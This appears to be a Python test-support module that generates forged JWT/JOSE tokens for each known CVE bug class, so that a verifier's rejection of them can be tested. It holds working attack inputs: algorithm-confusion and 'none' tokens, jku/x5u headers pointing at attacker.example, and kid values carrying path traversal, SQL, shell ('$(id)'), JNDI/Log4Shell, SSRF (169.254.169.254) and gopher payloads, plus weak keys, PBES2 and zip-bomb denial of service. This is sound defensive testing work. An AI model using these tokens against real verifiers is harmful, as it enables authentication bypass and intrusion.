"""Tokens of every JOSE bug class that is known by CVE: each would pass a verifier that has the bug.

Every mutation starts from a token that is good in all else, now and for the issuer's real keys, so that nothing but
the class's own check can refuse it. Two issuers: one takes all our algorithms, the other RS256 alone.
"""

from __future__ import annotations

import hashlib
import hmac
import itertools
import json
import time
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from typing import Any, NamedTuple

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.support.tokens import (
    ALGORITHM_KEYS,
    ISSUER,
    NULL,
    TENANT,
    b64,
    good_claims,
    private_key,
    public_jwk,
    public_jwks,
    raw_signature,
    sign_raw,
)

STRICT_ISSUER = "https://strict.example.test"
LEAST = 50

_SIGNERS = {"RS256": "rsa-1", "PS256": "rsa-1", "ES256": "p256-1", "EdDSA": "ed25519-1"}
_RSA_ALGORITHMS = ("RS256", "RS384", "RS512", "PS256", "PS384", "PS512")
_CURVES: Mapping[str, ec.EllipticCurve] = {"ES256": ec.SECP256R1(), "ES384": ec.SECP384R1(), "ES512": ec.SECP521R1()}


class Mutation(NamedTuple):
    name: str
    token: str


def payload(**changes: object) -> str:
    return json.dumps(good_claims(int(time.time()), **changes))


def header(alg: object, kid: object = None, **members: object) -> str:
    """A member of None is left out, one of NULL is null."""
    whole = {"alg": alg, "kid": kid, "typ": "at+jwt", **members}
    return json.dumps({name: None if value is NULL else value for name, value in whole.items() if value is not None})


def good_token(alg: str = "RS256", *, issuer: str = ISSUER) -> str:
    return sign_raw(header(alg, ALGORITHM_KEYS[alg]), payload(iss=issuer), alg, ALGORITHM_KEYS[alg])


def _signed(head: str, alg: str, signer: str, **changes: object) -> str:
    return sign_raw(head, payload(**changes), alg, signer)


def _with_signature(head: str, signature: bytes) -> str:
    return f"{b64(head)}.{b64(payload())}.{b64(signature)}"


def _hmac(head: str, secret: bytes, alg: str) -> str:
    signing_input = f"{b64(head)}.{b64(payload())}"
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    return f"{signing_input}.{b64(hmac.digest(secret, signing_input.encode(), digest))}"


# Keys that must never verify anything, beside those that do. The same key material under several names.
_UNMEANT: Mapping[str, Mapping[str, object]] = {
    "enc": {"use": "enc"},
    "use-odd": {"use": "SIG"},
    "use-list": {"use": ["sig"]},
    "ops-sign": {"key_ops": ["sign"]},
    "ops-encrypt": {"key_ops": ["encrypt", "decrypt"]},
    "ops-wrap": {"key_ops": ["wrapKey", "unwrapKey"]},
    "ops-blank": {"key_ops": [""]},
    "ops-text": {"key_ops": "verify"},
    "ops-mixed-with-enc": {"use": "enc", "key_ops": ["verify"]},
}


def _named(kid: str, name: str, **members: object) -> dict[str, object]:
    return {**public_jwk(kid, **members), "kid": f"{kid}-{name}"}


@cache
def published_jwks() -> dict[str, object]:
    """What both issuers publish."""
    keys = list(public_jwks()["keys"])  # type: ignore[call-overload]
    keys += [
        _named(kid, name, **members) for name, members in _UNMEANT.items() for kid in ("rsa-1", "p256-1", "ed25519-1")
    ]
    keys += [_named("rsa-1", f"only-{alg}", alg=alg) for alg in ("PS256", "RS512", "HS256", "none", "ES256")]
    keys += [{"kty": "oct", "kid": "oct-1", "k": b64(b"0" * 32), "alg": "HS256", "use": "sig"}]
    keys += list(_weak_keys().values())
    return {"keys": keys}


def strict_entry(jwks_file: str) -> str:
    """`TRUSTED_ISSUERS` with the issuer of RS256 alone."""
    entry = {"issuer": STRICT_ISSUER, "audiences": ["tenantgate-api"], "tenants": [TENANT]}
    return json.dumps([{**entry, "algorithms": ["RS256"], "jwks_file": jwks_file}])


def _algorithm_confusion() -> Iterator[Mutation]:
    for kid, alg in itertools.product(("rsa-1", "p256-1", "ed25519-1"), ("HS256", "HS384", "HS512")):
        public = private_key(kid).public_key()
        pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        secrets = {
            "PEM": pem,
            "PEM without end of line": pem.strip(),
            "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
            "JWK": json.dumps(public_jwk(kid)).encode(),
            "JWK's member": str(public_jwk(kid).get("n") or public_jwk(kid)["x"]).encode(),
            "kid": kid.encode(),
            "nothing": b"",
        }
        for form, secret in secrets.items():
            yield Mutation(f"{alg} with {kid} as {form}", _hmac(header(alg, kid), secret, alg))
    yield Mutation("HS256 with the published oct key", _hmac(header("HS256", "oct-1"), b"0" * 32, "HS256"))
    for said, really in itertools.permutations(_RSA_ALGORITHMS, 2):
        yield Mutation(f"{really} that says {said}", _signed(header(said, "rsa-1"), really, "rsa-1"))
    for alg in ("none", "None", "NONE", "nOnE", " none", "none\t", "NULL"):
        yield Mutation(f"alg {alg!r}", _with_signature(header(alg, "rsa-1"), b"x"))
        yield Mutation(f"alg {alg!r}, no signature", f"{b64(header(alg))}.{b64(payload())}.")


def _allow_list_bypass() -> Iterator[Mutation]:
    """Good signatures of the published keys, by algorithms that this issuer isn't trusted with."""
    for alg, kid in ALGORITHM_KEYS.items():
        if alg == "RS256":
            continue
        for typ, named in itertools.product(("at+jwt", "JWT", None), (kid, None)):
            yield Mutation(
                f"{alg}, typ {typ}, kid {named}", _signed(header(alg, named, typ=typ), alg, kid, iss=STRICT_ISSUER)
            )
    for only in ("PS256", "RS512", "HS256", "none", "ES256"):
        for alg in _RSA_ALGORITHMS:
            head = header(alg, f"rsa-1-only-{only}")
            if only != alg:
                yield Mutation(f"{alg} by a key for {only}", _signed(head, alg, "rsa-1"))


def _crit() -> Iterator[Mutation]:
    values: tuple[object, ...] = (
        *(["exp"], ["b64"], ["http://example.test/x"], [], NULL, "exp", {"exp": 1}, 0, True, ["alg"], [""], [None]),
        *([["exp"]], ["exp", "exp"], ["x"] * 20),
    )
    for (alg, kid), value in itertools.product(_SIGNERS.items(), values):
        yield Mutation(f"{alg}, crit {str(value)[:20]}", _signed(header(alg, kid, crit=value, exp=1), alg, kid))


def _unmeant_keys() -> Iterator[Mutation]:
    for name in _UNMEANT:
        for alg in _RSA_ALGORITHMS:
            yield Mutation(f"{alg} by {name}", _signed(header(alg, f"rsa-1-{name}"), alg, "rsa-1"))
        for alg, kid in (("ES256", "p256-1"), ("EdDSA", "ed25519-1")):
            yield Mutation(f"{alg} by {name}", _signed(header(alg, f"{kid}-{name}"), alg, kid))


_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


def _spellings(segment: str) -> Iterator[tuple[str, str]]:
    """The same bytes spelled otherwise, or read so by a lenient decoder."""
    yield "one =", f"{segment}="
    yield "two =", f"{segment}=="
    yield "right padding", segment + "=" * (-len(segment) % 4 or 4)
    yield "a line break inside", f"{segment[:8]}\n{segment[8:]}"
    yield "a blank inside", f"{segment[:8]} {segment[8:]}"
    yield "a percent sign", f"{segment[:8]}%{segment[8:]}"
    yield "a NUL behind", f"{segment}\0"
    yield "a stray character behind", f"{segment}!"
    if "-" in segment or "_" in segment:
        yield "the other alphabet", segment.replace("-", "+").replace("_", "/")
    unused = {2: 4, 3: 2}.get(len(segment) % 4, 0)
    if unused:
        last = _ALPHABET.index(segment[-1])
        for bits in range(1, 1 << unused if unused == 2 else 4):
            yield f"unused bits {bits}", segment[:-1] + _ALPHABET[last | bits]


def _base64() -> Iterator[Mutation]:
    for alg in ("RS256", "ES256", "EdDSA"):
        parts = good_token(alg).split(".")
        for place, what in enumerate(("header", "payload", "signature")):
            for name, spelled in _spellings(parts[place]):
                yield Mutation(f"{alg}: {what} with {name}", ".".join([*parts[:place], spelled, *parts[place + 1 :]]))


def _huge_headers() -> Iterator[Mutation]:
    forms: dict[str, Callable[[int], dict[str, object]]] = {
        "one long member": lambda size: {"x": "a" * size},
        "a long kid": lambda size: {"kid": "k" * size},
        "a long typ": lambda size: {"typ": "t" * size},
        "many members": lambda size: {f"m{number}": number for number in range(size // 12)},
        "a long list": lambda size: {"x": [0] * (size // 3)},
        "a long number": lambda size: {"x": -7 * size},
        "a long apu": lambda size: {"apu": "a" * size, "apv": "a"},
    }
    for (form, make), size in itertools.product(forms.items(), (3200, 4100, 8000, 11_000, 16_000, 24_000, 44_000)):
        head = json.dumps({"alg": "RS256", "kid": "rsa-1", "typ": "at+jwt", **make(size)})
        if form == "a long number":
            head = head.replace(str(-7 * size), "9" * size)
        yield Mutation(f"{form}, {size}", _signed(head, "RS256", "rsa-1"))
    for depth in (2100, 5000, 10_000, 20_000):
        head = f'{{"alg":"RS256","kid":"rsa-1","x":{"[" * depth}{"]" * depth}}}'
        yield Mutation(f"nested {depth} deep", _signed(head, "RS256", "rsa-1"))


def _own_keys() -> Iterator[Mutation]:
    """Signed by the attacker's key, which the token brings along or names."""
    for alg, foreign, known in (
        ("RS256", "rsa-foreign", "rsa-1"),
        ("ES256", "p256-foreign", "p256-1"),
        ("EdDSA", "ed25519-foreign", "ed25519-1"),
    ):
        der = private_key(foreign).public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
        brought: dict[str, object] = {
            "jwk": public_jwk(foreign),
            "jwk under the known kid": {**public_jwk(foreign), "kid": known},
            "jku": "https://attacker.example/jwks.json",
            "jku at the issuer": f"{ISSUER}/jwks",
            "x5u": "https://attacker.example/chain.pem",
            "x5c": [b64(der)],
            "x5t": b64(hashlib.sha1(der).digest()),
            "x5t#S256": b64(hashlib.sha256(der).digest()),
        }
        for (name, value), kid in itertools.product(brought.items(), (known, foreign, None)):
            member = {name.partition(" ")[0]: value}
            yield Mutation(f"{alg}: {name}, kid {kid}", _signed(header(alg, kid, **member), alg, foreign))


_KIDS = (
    *("../../../../dev/null", "/dev/null", "/proc/self/environ", "..\\..\\windows\\win.ini", "C:\\boot.ini"),
    *("file:///dev/null", "https://attacker.example/key", "http://169.254.169.254/latest/meta-data/", "//attacker/k"),
    *("ftp://attacker.example/k", "gopher://127.0.0.1:6379/_", "data:text/plain,k", "php://filter/resource=k"),
    *("rsa-1' OR '1'='1", "x' UNION SELECT 'k'--", "'; DROP TABLE keys;--", '" OR ""="', "1) OR (1=1", "rsa-1'||'"),
    *("rsa-1|id", "rsa-1;id", "`id`", "$(id)", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}"),
    *("*", "rsa-*", "rsa-1*", "?", "(cn=*)", "*)(uid=*", "rsa-[1]", "^rsa", ".*", "rsa-1/../rsa-1", "./rsa-1"),
    *("RSA-1", "Rsa-1", " rsa-1", "rsa-1 ", "rsa-1%00", "rsa-1%20", "rsa\u20111", "rsa-1\u200b", "rsa-\u0661"),
    *("__proto__", "constructor", "toString", "None", "null", "0", "-1", "true", "[]", "{}", "rsa-1\\u0000", "%rsa-1"),
)


def _kid_injection() -> Iterator[Mutation]:
    for kid in _KIDS:
        yield Mutation(f"{kid!r}, signed by a known key", _signed(header("RS256", kid), "RS256", "rsa-1"))
        yield Mutation(f"{kid!r}, by nothing", _hmac(header("HS256", kid), b"", "HS256"))


@cache
def _weak_keys() -> dict[str, dict[str, object]]:
    modulus = public_jwk("rsa-1")["n"]
    order_points = {
        "zero": bytes(32),
        "one": b"\x01" + bytes(31),
        "p-1": (2**255 - 20).to_bytes(32, "little"),
        "p": (2**255 - 19).to_bytes(32, "little"),
        "p+1": (2**255 - 18).to_bytes(32, "little"),
        "eight": bytes.fromhex("26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05"),
        "eight too": bytes.fromhex("c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a"),
        "one, signed": b"\x01" + bytes(30) + b"\x80",
    }
    p256, p384 = public_jwk("p256-1"), public_jwk("p384-1")
    keys: dict[str, dict[str, object]] = {
        "rsa1024-weak": public_jwk("rsa1024-weak"),
        "rsa-e-one": {"kty": "RSA", "n": modulus, "e": "AQ"},
        "rsa-e-zero": {"kty": "RSA", "n": modulus, "e": "AA"},
        "rsa-e-two": {"kty": "RSA", "n": modulus, "e": "Ag"},
        "rsa-n-empty": {"kty": "RSA", "n": "", "e": "AQAB"},
        "rsa-n-one": {"kty": "RSA", "n": "AQ", "e": "AQAB"},
        "rsa-n-even": {"kty": "RSA", "n": b64(b"\x80" + bytes(255)), "e": "AQAB"},
        "ec-off-curve": {**p256, "y": b64(b"\x07" * 32)},
        "ec-origin": {**p256, "x": b64(bytes(32)), "y": b64(bytes(32))},
        "ec-short": {**p256, "x": b64(bytes(31))},
        "ec-long": {**p256, "x": b64(b"\0" + bytes(32))},
        "ec-p256-says-p384": {**p256, "crv": "P-384"},
        "ec-p384-says-p256": {**p384, "crv": "P-256"},
        "ec-says-rsa": {**p256, "kty": "RSA"},
        "rsa-says-ec": {**public_jwk("rsa-1"), "kty": "EC", "crv": "P-256"},
        "ec-secp256k1": {**p256, "crv": "secp256k1"},
        "okp-x25519": {**public_jwk("ed25519-1"), "crv": "X25519"},
        "rsa-private": {**public_jwk("rsa-1"), "d": "AQAB"},
        **{f"ed-{name}": {"kty": "OKP", "crv": "Ed25519", "x": b64(point)} for name, point in order_points.items()},
    }
    return {name: {**key, "kid": name} for name, key in keys.items()}


def _pkcs1_padded(signing_input: bytes, size: int = 256) -> bytes:
    """With the exponent one, the padded digest is its own signature (RFC 8017 §9.2)."""
    info = bytes.fromhex("3031300d060960864801650304020105000420") + hashlib.sha256(signing_input).digest()
    return b"\x00\x01" + b"\xff" * (size - len(info) - 3) + b"\x00" + info


def _weak_key_tokens() -> Iterator[Mutation]:
    for kid in _weak_keys():
        algorithms = ("EdDSA",) if kid.startswith(("ed-", "okp")) else ("ES256", "ES384")
        for alg in _RSA_ALGORITHMS[:4] if kid.startswith("rsa") else algorithms:
            head = header(alg, kid)
            signing_input = f"{b64(head)}.{b64(payload())}".encode()
            signatures = {"zeros": bytes(64), "a one": bytes(63) + b"\x01", "R one": b"\x01" + bytes(63)}
            if kid == "rsa1024-weak":
                signatures = {"its own": raw_signature(signing_input.decode(), alg, kid)}
            elif kid.startswith("rsa"):
                signatures = {"the padded digest": _pkcs1_padded(signing_input)}
            elif kid.startswith("ec-"):
                signatures["a good one of the true key"] = raw_signature(signing_input.decode(), "ES256", "p256-1")
            for name, signature in signatures.items():
                yield Mutation(f"{alg} by {kid}: {name}", f"{signing_input.decode()}.{b64(signature)}")
    for alg, kid in itertools.product(ALGORITHM_KEYS, ("rsa-1", "p256-1", "p384-1", "p521-1", "ed25519-1")):
        if ALGORITHM_KEYS[alg] != kid:
            yield Mutation(f"{alg} names {kid}", _signed(header(alg, kid), alg, ALGORITHM_KEYS[alg]))


def _zero_signatures() -> Iterator[Mutation]:
    for alg, curve in _CURVES.items():
        size, order = (curve.key_size + 7) // 8, curve.group_order
        head = header(alg, ALGORITHM_KEYS[alg])
        numbers = {"0": 0, "1": 1, "n": order, "n-1": order - 1, "n+1": order + 1, "max": (1 << 8 * size) - 1}
        for (r_name, r), (s_name, s) in itertools.product(numbers.items(), repeat=2):
            pair = r.to_bytes(size) + s.to_bytes(size)
            yield Mutation(f"{alg}: r {r_name}, s {s_name}", _with_signature(head, pair))
        yield Mutation(f"{alg}: zeros in DER", _with_signature(head, encode_dss_signature(0, 0)))
        yield Mutation(f"{alg}: one byte", _with_signature(head, b"\0"))


def _encrypted() -> Iterator[Mutation]:
    bomb = zlib.compress(bytes(8_000_000), 9)[2:-4]
    algorithms: tuple[tuple[str, dict[str, Any]], ...] = (
        ("RSA-OAEP", {}),
        ("RSA-OAEP-256", {}),
        ("RSA1_5", {}),
        ("dir", {}),
        ("A128KW", {}),
        ("ECDH-ES", {"epk": public_jwk("p256-foreign"), "apu": "QQ"}),
        ("PBES2-HS256+A128KW", {"p2c": 2**31 - 1, "p2s": "AAAA"}),
        ("PBES2-HS512+A256KW", {"p2c": 10**15, "p2s": "AAAA"}),
    )
    for (alg, members), enc, zipped in itertools.product(algorithms, ("A128GCM", "A256CBC-HS512", "A256GCM"), (0, 1)):
        head = json.dumps({"alg": alg, "enc": enc, "kid": "rsa-1", **members, **({"zip": "DEF"} if zipped else {})})
        name = f"{alg}, {enc}{', a zip bomb' if zipped else ''}"
        yield Mutation(name, f"{b64(head)}.{b64(b'k' * 32)}.{b64(b'i' * 12)}.{b64(bomb)}.{b64(b't' * 16)}")
        # The same header over a good signature: a JWS to one reader, a JWE to another.
        inner = {"enc": enc, **members, **({"zip": "DEF"} if zipped else {})}
        yield Mutation(f"JWS with {name}", _signed(header("RS256", "rsa-1", **inner), "RS256", "rsa-1"))


@cache
def jose_classes() -> Mapping[str, list[Mutation]]:
    """Class → its mutations; made once for a run, and good in all else for ten minutes."""
    makers: dict[str, Callable[[], Iterator[Mutation]]] = {
        "algorithm confusion": _algorithm_confusion,
        "allow-list bypass through a JWK's own alg": _allow_list_bypass,
        "crit ignored": _crit,
        "use and key_ops ignored": _unmeant_keys,
        "non-canonical or padded base64": _base64,
        "huge header segment": _huge_headers,
        "keys from the token's own header": _own_keys,
        "kid as path, URL or SQL": _kid_injection,
        "weak or wrong-type keys": _weak_key_tokens,
        "zero ECDSA signatures": _zero_signatures,
        "JWE where JWS is expected": _encrypted,
    }
    return {name: list(make()) for name, make in makers.items()}
